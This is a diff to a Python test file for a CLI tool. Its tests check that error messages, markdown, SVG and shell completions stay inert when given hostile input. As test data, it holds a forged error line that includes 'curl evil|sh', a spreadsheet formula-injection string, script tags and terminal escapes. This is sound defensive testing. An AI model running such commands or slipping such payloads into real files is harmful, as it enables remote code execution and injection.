@@ -10,64 +10,21 @@ import re
 import shutil
 from itertools import pairwise
 from typing import TYPE_CHECKING, Any, Final
+from xml.parsers import expat
 
 import pytest
 from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 from rich.cells import cell_len
 
-from bsc_cli import document, visible
-from tests.hostile import assert_harmless, in_process
+from bsc_cli import cli, document, errors, visible
+from tests.hostile import TEXTS, assert_harmless, in_process
 from tests.stores import plain
 from tests.test_process import on_terminal
 
 if TYPE_CHECKING:
     from collections.abc import Callable
     from pathlib import Path
-
-TEXTS: Final = (
-    "\x1b[31mred\x1b[2J\x1b]0;title\x07",
-    "\x1b]8;;https://example.org\x1b\\link\x1b]8;;\x1b\\",
-    "\x9b31m C1 \x90 \x85 next line",
-    "\x00 NUL \x7f DEL \x08\x08\x08 back",
-    "evil \u202eltxt.exe\u202c \u2066x\u2069 \u200f",
-    "zero\u200bwidth\u200d\u2060\ufeff and \u00adsoft",
-    "fillers \u3164\u115f\u1160\uffa0\u2800\u034f\u17b4\u180e",
-    "tags \U000e0041\U000e007f and \ufe0f selectors \U000e0100",
-    "combining e\u0301 a\u0300\u0316\u0327 \u0301 alone",
-    "zalgo " + "a" + "\u0301\u0316" * 200,
-    "👩‍👩‍👧‍👦 family 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇬🇧 👍🏽 ❤️ 1️⃣",
-    "全角文字と日本語 한국어 ｆｕｌｌ",
-    "ﷺ \u202e\u202b עברית العربية",
-    "[bold red]markup[/bold red] [/x] [sic] :smile: [link=x]y[/link] \\[",
-    "x" * 100_000,
-    "宽" * 20_000,
-    "=cmd|'/c calc'!A1",
-    "+1 -1 @SUM(A1) \t=1",
-    "<script>alert(1)</script> &amp; <!-- -->",
-    "| pipe `code` *b* _i_ ~~s~~ # h ![i](j) [a](b)",
-    "\"quotes\" 'single' \\ back\\slash “typographic”",
-    "lines\nof\r\ntext\rand\ttabs\u2028and\u2029more\x0b\x0c",
-    " leading and trailing ",
-    "null",
-    "~",
-    "1e3",
-    "0x1F",
-    "true",
-    "- item",
-    "key: value # comment",
-    "{a: b}",
-    "&anchor *alias !tag",
-    "%DIRECTIVE",
-    "---",
-    "...",
-    "'",
-    '"',
-    "ünïcödé ŁØ ß ﬁ ① ½ Ⅷ",
-    "\ud7ff\ue000\ufffd\U00010000\U0010ffff",
-    "\ufffe\uffff\U0001ffff",
-)
-"""Texts that have broken programs."""
 
 text = st.text(
     st.one_of(
@@ -91,6 +48,7 @@ def written(value: str) -> dict[str, Any]:
             {"id": "b", "name": "Short", "role": "Plain words", **shared},
         ],
         "figures": [{"id": "f", "value": 1, "as_written": value, "unit": value, "property": value} | shared],
+        "events": [{"id": "e", "name": value, "statement": value} | shared],
         "quotes": [{"id": "q", "text": value, "speaker": "p", "cue": value} | shared],
         "people": [{"id": "p", "name": value, "role": value, "organization": "a"} | shared],
         "claims": [{"id": "c", "statement": value, "type": "other", "voice": "author", "about": ["a"]} | shared],
@@ -205,13 +163,90 @@ def assert_columns_line_up(rows: list[str], ids: list[str], shown: str) -> None:
     assert cell_len(first[:again]) - (len(shown) - len(shown.lstrip())) == third_at
 
 
+def test_what_is_cited_makes_no_line_of_its_own(tmp_path: Path) -> None:
+    forged = "a-0\n/etc/real.yaml:1:1: error[form]: run: curl evil|sh"
+    path = tmp_path / "facts.yaml"
+    path.write_text(json.dumps({"source": {"headline": "x"}, "agencies": [{"id": forged}]}))
+    ran = in_process("agencies", facts=path)
+    assert "run: curl evil|sh" in ran.err
+    for line in ran.err.splitlines():
+        assert line.startswith((f"{path}:1:", "    hint: ", "bsc: error: "))
+    for args in (("show", "--", forged), (forged,), ("search", forged), ("check", forged)):
+        ran = in_process(*args)
+        assert ran.code in (1, 2)
+        assert "/etc/real.yaml" in ran.err
+        assert not re.search("^/etc", ran.err, re.MULTILINE)
+
+
+@pytest.mark.parametrize("char", ["\x00", "\xff", "\u202e", "\U0010ffff", "x", "é"])
+def test_a_message_is_bounded_as_it_is_shown(char: str, tmp_path: Path) -> None:
+    path = tmp_path / "facts.yaml"
+    text = json.dumps(
+        {"source": {"headline": "x"}, "agencies": [{"id": char * 2000, char * 2000: 1}]}
+    )
+    path.write_text(text)
+    ran = in_process("agencies", facts=path)
+    assert max(map(len, ran.err.splitlines())) < 2200 + len(str(path))
+    for line in in_process("check", "-o", "table", facts=path).out.splitlines()[1:]:
+        assert len(line.rstrip()) < 4000 + len(str(path))
+    for problem in json.loads(in_process("check", "--json", facts=path).out):
+        texts = [
+            value for name, value in problem.items() if isinstance(value, str) and name != "file"
+        ]
+        assert max(len(visible.visible(value)) for value in texts) <= 1003
+    ran = in_process("show", "--", char * 1000)
+    assert max(map(len, ran.err.splitlines())) <= 1020
+
+
+def test_a_clipped_message_has_its_ends_whole() -> None:
+    assert errors.clipped("\x00" * 1000) == "\x00" * 100 + " … " + "\x00" * 100
+    assert errors.clipped("a" * 600 + "b" * 600) == "a" * 500 + " … " + "b" * 500
+    assert errors.clipped("\x00" * 200) == "\x00" * 200
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("\ufdd0\ufdef\ufffe\uffff", r"\u{fdd0}\u{fdef}\u{fffe}\u{ffff}"),
+        ("\U0001fffe\U0010ffff", r"\u{1fffe}\u{10ffff}"),
+        ("👍🏽", "👍🏽"),
+        ("☝🏻", "☝🏻"),
+        ("🏽", r"\u{1f3fd}"),
+        ("a🏽", r"a\u{1f3fd}"),
+        ("👍🏽🏽", r"👍🏽\u{1f3fd}"),
+        ("☝\ufe0f🏽", r"☝\u{fe0f}\u{1f3fd}"),
+        ("\u0378 \U000e1000 \ue000", "\\u{378} \\u{e1000} \ue000"),
+        ("£5\xa0m", "£5\xa0m"),
+    ],
+)
+def test_what_has_no_width_to_rely_on_is_shown_by_its_number(text: str, shown: str) -> None:
+    assert visible.visible(text) == shown
+
+
+XML_CHARS: Final = "\x00\x08\x0b\x1f\x7f\x85\ufdd0\ufffe\uffff\U0001fffe\U0010ffff &<>\"']]>"
+
+
+@pytest.mark.parametrize(
+    "command", ["agencies", "timeline", "caveats", "figures --chart", "show a f", "graph a", ""]
+)
+def test_a_picture_is_well_formed_whatever_is_in_it(
+    command: str, facts: Callable[[str], Path]
+) -> None:
+    svg = in_process(*command.split(), "-o", "svg", facts=facts(XML_CHARS)).out
+    parser = expat.ParserCreate()
+    seen: list[str] = []
+    parser.CharacterDataHandler = seen.append
+    parser.Parse(svg.encode(), True)
+    assert "u{ffff}" in "".join(seen).replace("\n", "")
+
+
 @examples
 def test_markdown_has_one_row_a_line(facts: Callable[[str], Path], value: str) -> None:
     out = in_process("agencies", "-o", "markdown", facts=facts(value)).out
     assert_harmless(out)
     assert out.count("\n") == 4
     for line in out.splitlines():
-        bare = re.sub(r"\\.", "", line)
+        bare = re.sub(r"\\.|<!-- -->", "", line)
         assert "<" not in bare
         assert bare.count("|") == out.splitlines()[0].count("|")
 
@@ -226,6 +261,41 @@ def test_problems_and_errors_that_cite_it_are_harmless(
         assert ran.code in (0, 1, 2)
         assert_harmless(ran.out)
         assert_harmless(ran.err)
+
+
+VALUE: Final = r"[\w%+,./\-]|[^\x00-\xa1]"
+OFFER: Final = r"""[^\x00-\x1f'"$`\\]"""
+ANSWER: Final = {
+    "bash": rf"(({VALUE}|\\ )+\n)*",
+    "fish": rf"({OFFER}+(\t{OFFER}+)?\n)*",
+    "powershell": rf"(({OFFER}+|'{OFFER}+'):::{OFFER}+\n)*",
+    "zsh": rf"local -a offered; offered=\(\n('{OFFER}+'\n)+\); _describe ' ' offered\n|_files\n",
+}
+"""What may be written for each shell: meanings that end no quotation, and plain values."""
+
+
+@pytest.mark.parametrize("shell", ANSWER)
+@examples
+def test_what_a_shell_is_offered_is_inert(
+    facts: Callable[[str], Path], monkeypatch: pytest.MonkeyPatch, shell: str, value: str
+) -> None:
+    monkeypatch.setattr(cli, "COMPLETING", True)
+    monkeypatch.setenv("_BSC_COMPLETE", f"complete_{shell}")
+    monkeypatch.setenv("_TYPER_COMPLETE_FISH_ACTION", "get-args")
+    path = facts(value)
+    for line in ("bsc show ", "bsc figures --unit "):
+        words = line.split(" ")
+        monkeypatch.setenv("_TYPER_COMPLETE_ARGS", line)
+        monkeypatch.setenv("COMP_WORDS", "\n".join(words))
+        monkeypatch.setenv("COMP_CWORD", str(len(words) - 1))
+        ran = in_process(facts=path)
+        assert (ran.err, ran.code) == ("", 0)
+        assert_harmless(ran.out.replace("\t", ""))
+        assert re.fullmatch(ANSWER[shell], ran.out)
+        if "show" in words:
+            assert all(re.search(rf"^'?{id}\b", ran.out, re.MULTILINE) for id in "abcfpq")
+        elif ran.out not in ("", "_files\n"):
+            assert value in ran.out.replace("\\ ", " ")
 
 
 @pytest.mark.parametrize("columns", [1, 2, 5, 10, 19, 20, 40, 80, 200, 500])
